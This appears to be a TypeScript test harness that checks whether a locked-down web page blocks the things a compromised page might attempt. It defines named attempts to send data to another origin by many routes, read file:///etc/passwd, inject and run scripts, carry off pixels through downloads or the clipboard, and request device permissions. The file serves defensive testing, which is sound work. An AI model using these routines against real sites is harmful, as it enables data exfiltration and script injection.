/* oxlint-disable no-eval, no-alert, no-new-func: that these do nothing in the page is what is tested */
/**
 * What a page that was taken over tries, by name. Put into the page as it is; each runs later and on its own, since what a debugger
 * runs itself is not held to the page's policy. `to` is another origin, `own` an address of pixels that the page may show.
 */
export function defineAttacks(): void {
  type Attack = (to: string, own: string) => unknown
  const put = (name: string, facts: Record<string, unknown>): Element => {
    const element = Object.assign(document.createElement(name), facts)
    document.body.append(element)
    return element
  }
  /** What became of something that loads: `load`, `error`, or nothing. */
  const outcome = (element: Element): Promise<string> =>
    new Promise((resolve) => {
      for (const name of ['load', 'error', 'loadeddata']) element.addEventListener(name, () => resolve(name))
      setTimeout(() => resolve('nothing'), 1500)
    }).then((told) => {
      element.remove()
      return told as string
    })
  const asked = (call: (answer: (value: unknown) => void) => void): Promise<unknown> => new Promise(call)
  const navigation = navigator as any
  const script = 'globalThis.taken = true'
  const pixels = async (own: string): Promise<Blob> => {
    const canvas = document.createElement('canvas')
    const image = document.querySelector<HTMLImageElement>(`img[src="${own}"]`)
    if (image !== null) canvas.getContext('2d')?.drawImage(image, 0, 0)
    return new Promise((resolve) => canvas.toBlob((blob) => resolve(blob!)))
  }
  const attacks: Record<string, Attack> = {
    // ways out
    fetch: (to) => fetch(to).then(() => 'answered'),
    'fetch without CORS': (to) => fetch(`${to}/?x`, { mode: 'no-cors' }).then(() => 'answered'),
    'fetch that outlives the page': (to) => fetch(to, { method: 'POST', body: 'x', keepalive: true }).then(() => 'answered'),
    XMLHttpRequest: (to) => asked((answer) => { const request = new XMLHttpRequest(); request.onload = () => answer('answered'); request.onerror = () => answer('error'); request.open('GET', to); request.send() }),
    sendBeacon: (to) => (navigator.sendBeacon(to, 'x'), 'sent'),
    WebSocket: (to) => asked((answer) => { const socket = new WebSocket(to.replace('http', 'ws')); socket.onopen = () => answer('open'); socket.onerror = () => answer('error') }),
    EventSource: (to) => asked((answer) => { const source = new EventSource(to); source.onopen = () => answer('open'); source.onerror = () => answer((source.close(), 'error')) }),
    WebTransport: (to) => asked((answer) => { new (globalThis as any).WebTransport(to.replace('http', 'https')).ready.then(() => answer('open'), () => answer('error')) }),
    'WebRTC, a STUN server': (to) => asked((answer) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${to.replace('http://', '')}` }, { urls: `turn:${to.replace('http://', '')}?transport=tcp`, username: 'stolen', credential: 'stolen' }] })
      const found: string[] = []
      peer.onicecandidate = ({ candidate }) => { if (candidate === null) answer(found.length === 0 ? 'error' : found.join()); else if (candidate.candidate !== '') found.push(candidate.candidate) }
      peer.createDataChannel('x')
      void peer.createOffer().then((offer) => peer.setLocalDescription(offer))
      setTimeout(() => answer(found.length === 0 ? 'error' : found.join()), 2500)
    }),
    'a picture elsewhere': (to) => outcome(put('img', { src: `${to}/?stolen` })),
    'a video elsewhere': (to) => outcome(put('video', { src: `${to}/x.mp4` })),
    'a style sheet elsewhere': (to) => outcome(put('link', { rel: 'stylesheet', href: `${to}/x.css` })),
    'a font elsewhere': (to) => new FontFace('x', `url(${to}/x.woff2)`).load().then(() => 'answered'),
    'hints to elsewhere': (to) => Promise.all(['dns-prefetch', 'preconnect', 'prefetch', 'modulepreload', 'preload', 'prerender'].map((rel) => { put('link', { rel, as: 'image', href: `${to}/${rel}` }); return rel })).then(() => new Promise((wait) => setTimeout(() => wait('error'), 1500))),
    'a form elsewhere': (to) => { const form = put('form', { action: to, method: 'POST' }) as HTMLFormElement; form.submit(); return 'sent' },
    'a ping on a link': (to) => { const link = put('a', { href: '#', ping: to }) as HTMLAnchorElement; link.click(); link.remove(); return 'sent' },
    'a report of its policy': (to) => { put('meta', { httpEquiv: 'Content-Security-Policy', content: `img-src *; report-uri ${to}` }); return outcome(put('img', { src: `${to}/?stolen` })) },
    'a module elsewhere': (to) => import(`${to}/x.js`).then(() => 'answered'),
    // files
    'fetch of a file': () => fetch('file:///etc/passwd').then(() => 'answered'),
    'a picture of a file': () => outcome(put('img', { src: 'file:///usr/share/pixmaps/debian-logo.png' })),
    // other documents
    'window.open': () => String(window.open('/', '_blank')),
    'window.open elsewhere': (to) => String(window.open(to, '_blank', 'noopener')),
    'a link to a new window': (to) => { const link = put('a', { href: to, target: '_blank' }) as HTMLAnchorElement; link.click(); link.remove(); return 'clicked' },
    'a frame of itself': () => { const frame = put('iframe', { src: '/' }) as HTMLIFrameElement; return outcome(frame).then(() => { try { return frame.contentDocument?.getElementById('root') ? 'embedded' : 'error' } catch { return 'error' } }) },
    'a frame elsewhere': (to) => outcome(put('iframe', { src: to })).then(() => 'error'),
    'an object': (to) => outcome(put('object', { data: to })).then((told) => (told === 'load' ? told : 'error')),
    'an embed': (to) => outcome(put('embed', { src: to })).then(() => 'error'),
    // scripts
    'a script in the page': () => { put('script', { textContent: script }); return String((globalThis as any).taken ?? 'error') },
    'a script elsewhere': (to) => outcome(put('script', { src: `${to}/x.js` })),
    'a script of the API': () => outcome(put('script', { src: '/api/status' })),
    'HTML as text': () => { const box = put('div', {}); box.innerHTML = '<img src=x onerror="globalThis.taken = true">'; return new Promise((wait) => setTimeout(() => wait(String((globalThis as any).taken ?? 'error')), 500)) },
    'document.write': () => { document.write('<script>globalThis.taken = true</script>'); return String((globalThis as any).taken ?? 'error') },
    'a handler in an attribute': () => { const box = put('button', {}) as HTMLButtonElement; box.setAttribute('onclick', 'globalThis.taken = true'); box.click(); box.remove(); return String((globalThis as any).taken ?? 'error') },
    'a javascript: address': () => { const link = put('a', { href: 'javascript:globalThis.taken=true' }) as HTMLAnchorElement; link.click(); link.remove(); return new Promise((wait) => setTimeout(() => wait(String((globalThis as any).taken ?? 'error')), 300)) },
    eval: () => String((0, eval)('1 + 1')),
    'new Function': () => String(new Function('return 2')()),
    'setTimeout of a text': () => { setTimeout(script as unknown as () => void); return new Promise((wait) => setTimeout(() => wait(String((globalThis as any).taken ?? 'error')), 300)) },
    WebAssembly: () => WebAssembly.compile(Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0)).then(() => 'compiled'),
    'a style in the page': () => { put('style', { textContent: 'body { outline: 7px solid red }' }); return getComputedStyle(document.body).outlineWidth === '7px' ? 'styled' : 'error' },
    // workers and stores
    'a service worker': () => navigator.serviceWorker.register('/assets/index.js').then(() => 'registered'),
    'a worker': () => asked((answer) => { const worker = new Worker('/launch.js'); worker.onmessage = () => answer('runs'); worker.onerror = () => answer('error') }),
    'a worker of a blob': () => asked((answer) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => answer('runs'); worker.onerror = () => answer('error') }),
    'a shared worker': () => asked((answer) => { const worker = new SharedWorker('/launch.js'); worker.onerror = () => answer('error'); worker.port.onmessage = () => answer('runs') }),
    'a picture of a blob': async (_to, own) => outcome(put('img', { src: URL.createObjectURL(await pixels(own)) })),
    'fetch of a blob': async (_to, own) => fetch(URL.createObjectURL(await pixels(own))).then(() => 'answered'),
    'a picture in its address': () => outcome(put('img', { src: 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7' })),
    // away with the pixels
    'a download': (_to, own) => { const link = put('a', { href: own, download: 'stolen.webp' }) as HTMLAnchorElement; link.click(); link.remove(); return 'clicked' },
    'a download of a blob': async (_to, own) => { const link = put('a', { href: URL.createObjectURL(await pixels(own)), download: 'stolen.png' }) as HTMLAnchorElement; link.click(); link.remove(); return 'clicked' },
    'a picture into the clipboard': async (_to, own) => navigator.clipboard.write([new ClipboardItem({ 'image/png': await pixels(own) })]).then(() => 'copied'),
    'a text into the clipboard': () => navigator.clipboard.writeText('stolen').then(() => 'copied'),
    'the clipboard': () => navigator.clipboard.readText().then(() => 'read'),
    print: () => { let printed = 'error'; addEventListener('beforeprint', () => (printed = 'printed'), { once: true }); print(); return printed },
    alert: () => (alert('x'), 'returned'),
    confirm: () => (confirm('x') ? 'agreed' : 'error'),
    prompt: () => (prompt('x', 'y') ?? 'error'),
    'a full screen': () => document.documentElement.requestFullscreen().then(() => 'full'),
    'the pointer': () => (document.body as any).requestPointerLock().then(() => 'locked'),
    'picture in picture': () => { const video = put('video', {}) as HTMLVideoElement; return video.requestPictureInPicture().then(() => 'floats').finally(() => video.remove()) },
    // permissions
    geolocation: () => asked((answer) => navigator.geolocation.getCurrentPosition(() => answer('found'), () => answer('error'))),
    camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'seen'),
    microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'heard'),
    screen: () => navigator.mediaDevices.getDisplayMedia({ video: true }).then(() => 'seen'),
    notifications: () => Notification.requestPermission().then((answer) => (answer === 'granted' ? answer : 'error')),
    midi: () => navigation.requestMIDIAccess({ sysex: true }).then(() => 'granted'),
    usb: () => navigation.usb.requestDevice({ filters: [] }).then(() => 'granted'),
    serial: () => navigation.serial.requestPort().then(() => 'granted'),
    hid: () => navigation.hid.requestDevice({ filters: [] }).then(() => 'granted'),
    bluetooth: () => navigation.bluetooth.requestDevice({ acceptAllDevices: true }).then(() => 'granted'),
    'wake lock': () => navigation.wakeLock.request('screen').then(() => 'granted'),
    'idle detection': () => (globalThis as any).IdleDetector.requestPermission().then((answer: string) => (answer === 'granted' ? answer : 'error')),
    'local fonts': () => (globalThis as any).queryLocalFonts().then((fonts: unknown[]) => (fonts.length > 0 ? 'granted' : 'error')),
    'lasting storage': () => navigator.storage.persist().then((granted) => (granted ? 'granted' : 'error')),
    'storage access': () => (document as any).requestStorageAccessFor('https://elsewhere.example').then(() => 'granted'),
    'payment': () => new (globalThis as any).PaymentRequest([{ supportedMethods: 'https://elsewhere.example/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show().then(() => 'granted'),
    'a public key': () => navigator.credentials.create({ publicKey: { challenge: new Uint8Array(32), rp: { name: 'x' }, user: { id: new Uint8Array(1), name: 'x', displayName: 'x' }, pubKeyCredParams: [{ type: 'public-key', alg: -7 }] } }).then(() => 'granted'),
    'virtual reality': () => navigation.xr.requestSession('immersive-vr').then(() => 'granted'),
    'protected media': () => navigator.requestMediaKeySystemAccess('org.w3.clearkey', [{ initDataTypes: ['cenc'], videoCapabilities: [{ contentType: 'video/mp4;codecs="avc1.42E01E"' }] }]).then(() => 'granted'),
    'window management': () => (globalThis as any).getScreenDetails().then(() => 'granted'),
    motion: () => asked((answer) => { const sensor = new (globalThis as any).Accelerometer(); sensor.onerror = () => answer('error'); sensor.onreading = () => answer('read'); sensor.start() }),
  }
  ;(globalThis as any).attack = (name: string, to: string, own: string): Promise<string> =>
    new Promise((resolve) => {
      setTimeout(() => resolve('no answer'), 5000)
      setTimeout(async () => {
        try {
          resolve(`${String(await attacks[name]!(to, own))}`)
        } catch (error) {
          resolve(`refused (${(error as Error).name ?? String(error)})`)
        }
      }, 0)
    })
  ;(globalThis as any).attackNames = Object.keys(attacks)
}

/** Those that ask nothing back: that nothing came of them is seen from outside. */
export const SILENT = ['sendBeacon', 'a form elsewhere', 'a ping on a link', 'a link to a new window', 'a download', 'a download of a blob', 'alert']
